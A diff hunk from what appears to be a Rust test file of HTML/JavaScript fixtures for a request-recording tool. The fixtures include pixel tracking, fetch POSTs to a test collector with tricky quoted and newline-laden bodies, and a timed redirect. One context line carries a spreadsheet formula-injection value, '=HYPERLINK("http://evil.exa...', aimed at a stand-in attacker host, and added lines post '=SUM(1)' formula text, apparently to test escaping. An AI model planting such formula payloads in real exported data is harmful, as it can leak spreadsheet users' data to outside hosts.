@@ -213,6 +213,8 @@ fbq('init', '1234567890123456'); fbq('trackCustom', '=HYPERLINK("http://evil.exa
 (function () { var s = document.createElement('script'); s.src = 'https://connect.facebook.net/en_US/fbevents.js'; document.head.appendChild(s); })();
 fetch('https://collect.recorder-demo.test/v1/raw?note=' + encodeURIComponent('-1+2, "quoted"\nnext line'), {method: 'POST', mode: 'no-cors',
   body: new Uint8Array([0xff, 0xfe, 0x3d, 0x31, 0x2b, 0x32, 0x0a, 0x22, 0x2c, 0x00])});
+fetch('https://collect.recorder-demo.test/v1/text', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'},
+  body: 'he said "hi",\nthen left\r\n=SUM(1);x'});
 </script>"#;
 
 const LEAVES: &str = r#"<script>setTimeout(function () { location.href = 'https://elsewhere.test/landing'; }, 300);</script>"#;
